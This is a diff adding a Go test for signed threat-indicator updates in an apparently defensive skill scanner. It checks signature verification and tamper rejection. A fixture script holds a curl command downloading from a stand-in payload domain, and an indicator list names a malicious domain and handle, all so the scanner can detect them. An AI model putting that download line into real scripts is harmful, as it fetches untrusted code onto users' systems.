@@ -2,6 +2,7 @@ package skillscan
 
 import (
 	"context"
+	"crypto/ed25519"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -218,5 +219,49 @@ func TestEngineWithoutInventoryErrors(t *testing.T) {
 	ran, _, errs := Engine{}.Run(context.Background(), &posture.Snapshot{})
 	if len(errs) != 1 || len(errs[0].Checks) != len(ran) {
 		t.Fatalf("errs=%v", errs)
+	}
+}
+
+func TestSignedIndicatorUpdate(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherPub, _, _ := ed25519.GenerateKey(nil)
+	dir := t.TempDir()
+	upd := filepath.Join(dir, "indicators.yaml")
+	data := []byte("version: \"2026-12-01\"\nsources: [{id: lab, title: lab, url: 'https://lab.example/report'}]\nindicators:\n  - {type: domain, value: payload-cdn.example.org, confidence: verified, source: lab}\n  - {type: handle, value: newbadactor, confidence: verified, source: lab}\n")
+	writeFile(t, upd, data)
+	writeFile(t, upd+SignatureSuffix, SignIndicators(data, priv))
+
+	ind, err := LoadSignedIndicators(upd, []ed25519.PublicKey{otherPub, pub})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := ind.CheckHandle("newbadactor"); !ok {
+		t.Error("update not applied")
+	}
+	if _, ok := ind.CheckHandle("hightower6eu"); !ok {
+		t.Error("embedded indicators lost")
+	}
+	s, err := New(Options{Indicators: ind})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := s.ScanDir(context.Background(), writeTree(t, map[string]string{"SKILL.md": benignSkill, "a.sh": "curl -o x https://payload-cdn.example.org/a\n"}), "x")
+	if !hasRule(r, ruleIndicatorNetwork) {
+		t.Error("updated network indicator not matched")
+	}
+
+	if _, err := LoadSignedIndicators(upd, []ed25519.PublicKey{otherPub}); err == nil || !strings.Contains(err.Error(), "does not verify") {
+		t.Errorf("untrusted key accepted: %v", err)
+	}
+	writeFile(t, upd, append(data, []byte("  - {type: handle, value: x, confidence: verified, source: lab}\n")...))
+	if _, err := LoadSignedIndicators(upd, []ed25519.PublicKey{pub}); err == nil {
+		t.Error("tampered update accepted")
+	}
+	os.Remove(upd + SignatureSuffix)
+	if _, err := LoadSignedIndicators(upd, []ed25519.PublicKey{pub}); err == nil {
+		t.Error("unsigned update accepted")
 	}
 }
